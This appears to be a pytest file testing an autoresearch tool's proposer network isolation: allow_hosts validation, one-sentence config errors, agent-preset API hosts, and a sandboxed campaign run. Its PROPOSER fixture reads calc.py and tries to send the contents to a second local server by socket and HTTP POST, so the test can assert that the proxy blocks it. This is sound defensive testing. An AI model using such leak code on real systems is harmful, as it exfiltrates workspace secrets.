"""`[proposer] network` and `allow_hosts` as a user writes them: `check` says what the
proposer may reach, a bad setting is one sentence with exit 2, "allow" without a sandbox is
refused rather than run open, an agent preset brings its API's hosts, and a whole campaign
works through the proxy while the server it is not allowed receives nothing."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from autoresearch.isolation.sandbox import bwrap_problem
from autoresearch.testing.fake_openai import FakeOpenAI, serve
from campaigns import campaign_toml
from conftest import Runner, ledger, make_repo
from listeners import Recorder

BENCH = "import calc\nprint(calc.N)\n"
needs_bwrap = pytest.mark.skipif(bwrap_problem() is not None, reason="no bubblewrap")


def repo_with(tmp_path: Path, proposer: dict[str, Any], **overrides: Any) -> Path:
    (tmp_path / "propose.sh").write_text("echo hi\n")
    table = {"kind": "command", "command": f"bash {tmp_path / 'propose.sh'}"}
    if proposer.get("kind", "command") != "command":
        table = {}
    table.update(proposer)
    return make_repo(
        tmp_path / "repo",
        {
            "calc.py": "N = 10\n",
            "bench.py": BENCH,
            "autoresearch.toml": campaign_toml(
                guard=None, proposer=table, **{"metric.pattern": None}, **overrides
            ),
        },
    )


def one_sentence(result: Any, *words: str) -> None:
    assert result.returncode == 2, result.stdout + result.stderr
    said = result.stderr.strip()
    assert "Traceback" not in said and said.count("\n") == 0, said
    for word in words:
        assert word in said, said


@needs_bwrap
def test_check_says_which_hosts_the_proposer_may_reach(tmp_path: Path, invoke: Runner) -> None:
    repo = repo_with(
        tmp_path, {"network": "allow", "allow_hosts": ["127.0.0.1:8080", "API.example.com"]}
    )
    result = invoke(repo, "check")
    assert result.returncode == 0, result.stdout + result.stderr
    assert (
        'proposer network: only 127.0.0.1:8080, api.example.com:443 (network = "allow"'
        in result.stdout
    )
    data = json.loads(invoke(repo, "check", "--json").stdout)
    assert data["proposer_network"] == [
        {"network": "allow", "allow_hosts": ["127.0.0.1:8080", "api.example.com:443"]}
    ]


def test_check_says_when_the_proposer_can_reach_any_host(tmp_path: Path, invoke: Runner) -> None:
    repo = repo_with(tmp_path, {})
    result = invoke(repo, "check")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "proposer network: any host" in result.stdout
    assert "the proposer can reach any host" in result.stdout


def test_a_run_says_when_the_proposer_can_reach_any_host(tmp_path: Path, invoke: Runner) -> None:
    repo = repo_with(tmp_path, {}, **{"stop.max_iterations": 1})
    result = invoke(repo, "run", "--plain")
    assert result.returncode == 0, result.stdout + result.stderr
    said = result.stdout + result.stderr
    assert said.count("the proposer can reach any host") == 1
    assert 'set network = "allow" with allow_hosts' in said


@needs_bwrap
def test_each_proposer_of_a_chain_is_listed(tmp_path: Path, invoke: Runner) -> None:
    (tmp_path / "propose.sh").write_text("echo hi\n")
    command = f"bash {tmp_path / 'propose.sh'}"
    config = campaign_toml(guard=None, proposer=None, **{"metric.pattern": None})
    config += (
        f'\n[[proposer]]\nkind = "command"\ncommand = "{command}"\nnetwork = "off"\n'
        f'\n[[proposer]]\nkind = "command"\ncommand = "{command}"\nnetwork = "allow"\n'
        'allow_hosts = ["127.0.0.1:9"]\n'
    )
    repo = make_repo(
        tmp_path / "repo", {"calc.py": "N = 10\n", "bench.py": BENCH, "autoresearch.toml": config}
    )
    data = json.loads(invoke(repo, "check", "--json").stdout)
    assert data["proposer_network"] == [
        {"network": "off", "allow_hosts": []},
        {"network": "allow", "allow_hosts": ["127.0.0.1:9"]},
    ]


@pytest.mark.parametrize("command", ["check", "run"])
def test_allow_without_a_sandbox_is_refused_at_start(
    tmp_path: Path, invoke: Runner, command: str
) -> None:
    repo = repo_with(
        tmp_path,
        {"network": "allow", "allow_hosts": ["api.openai.com"]},
        **{"sandbox.isolation": "none"},
    )
    one_sentence(invoke(repo, command), "proposer.network", "bubblewrap", 'network = "on"')
    assert not (repo / ".autoresearch" / "toy" / "ledger.jsonl").exists()


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ({"network": "allow", "allow_hosts": ["https://api.openai.com"]}, ["allow_hosts"]),
        ({"network": "allow", "allow_hosts": ["[::1"]}, ["allow_hosts", "IPv6"]),
        ({"network": "allow", "allow_hosts": "api.openai.com"}, ["allow_hosts"]),
        ({"allow_hosts": ["api.openai.com"]}, ["allow_hosts", 'network = "allow"']),
        ({"network": "allow"}, ["proposer.allow_hosts", "list them"]),
        ({"network": "sometimes"}, ["proposer.network"]),
        ({"network": True}, ["proposer.network"]),
    ],
)
def test_a_bad_network_setting_is_one_sentence(
    tmp_path: Path, invoke: Runner, table: dict[str, Any], words: list[str]
) -> None:
    repo = repo_with(tmp_path, table)
    one_sentence(invoke(repo, "check"), "autoresearch.toml", *words)


def fake_tool(tmp_path: Path) -> Path:
    tool = tmp_path / "bin" / "agent-tool"
    tool.parent.mkdir()
    tool.write_text("#!/bin/sh\necho '{}'\n")
    tool.chmod(0o755)
    return tool


@needs_bwrap
@pytest.mark.parametrize(
    ("kind", "hosts"),
    [
        ("claude", ["api.anthropic.com:443"]),
        ("codex", ["api.openai.com:443", "chatgpt.com:443", "auth.openai.com:443"]),
    ],
)
def test_an_agent_preset_brings_its_api_hosts(
    tmp_path: Path, invoke: Runner, kind: str, hosts: list[str]
) -> None:
    table = {"kind": kind, "executable": str(fake_tool(tmp_path)), "network": "allow"}
    repo = repo_with(tmp_path, table)
    data = json.loads(invoke(repo, "check", "--json").stdout)
    assert data["proposer_network"] == [{"network": "allow", "allow_hosts": hosts}]


@needs_bwrap
def test_aider_names_no_host_of_its_own(tmp_path: Path, invoke: Runner) -> None:
    table = {"kind": "aider", "executable": str(fake_tool(tmp_path)), "network": "allow"}
    repo = repo_with(tmp_path, table)
    one_sentence(invoke(repo, "check"), "proposer.allow_hosts", "aider")


# -- a whole campaign ---------------------------------------------------------------------

PROPOSER = r"""
import json, os, socket, sys, urllib.request
model, other = sys.argv[1], int(sys.argv[2])
body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "N?"}]}).encode()
request = urllib.request.Request(model + "/v1/chat/completions", data=body,
                                 headers={"Content-Type": "application/json"})
answer = json.loads(urllib.request.urlopen(request, timeout=10).read())
n = answer["choices"][0]["message"]["content"].strip()
secret = open("calc.py").read().encode()
for leak in (
    lambda: socket.create_connection(("127.0.0.1", other), timeout=3).sendall(secret),
    lambda: urllib.request.urlopen(f"http://127.0.0.1:{other}/", data=secret, timeout=3),
):
    try:
        leak()
    except Exception:
        pass
open("calc.py", "w").write(f"N = {n}\n")
print(f"set N to {n}")
"""


@pytest.fixture
def model() -> Iterator[tuple[FakeOpenAI, int]]:
    state, server = serve()  # serving already: a second loop on its socket outlives shutdown()
    yield state, server.server_address[1]
    server.shutdown()
    server.server_close()


@needs_bwrap
@pytest.mark.slow
def test_a_campaign_reaches_its_model_and_leaks_nothing(
    tmp_path: Path, invoke: Runner, model: tuple[FakeOpenAI, int]
) -> None:
    fake, port = model
    fake.add("7", "3")
    other = Recorder()
    script = tmp_path / "propose.py"
    script.write_text(PROPOSER)
    repo = repo_with(
        tmp_path,
        {
            "command": f"{sys.executable} {script} http://127.0.0.1:{port} {other.port}",
            "network": "allow",
            "allow_hosts": [f"127.0.0.1:{port}"],
        },
        **{"stop.max_iterations": 2, "sandbox.isolation": "bwrap"},
    )
    try:
        result = invoke(repo, "run", "--plain")
    finally:
        other.close()
    said = result.stdout + result.stderr
    assert result.returncode == 0, said
    assert [r["status"] for r in ledger(repo)] == ["baseline", "keep", "keep"]
    assert (repo / "calc.py").read_text() == "N = 10\n"
    assert len(fake.requests) == 2
    assert other.untouched  # the promise: nothing of the workspace reached it
    assert "the proxy refused 1 request(s)" in said and "0001-proposer-network.log" in said
    assert "the proposer can reach any host" not in said
    log = repo / ".autoresearch" / "toy" / "logs" / "0001-proposer-network.log"
    assert f"refused POST 127.0.0.1:{other.port}" in log.read_text()
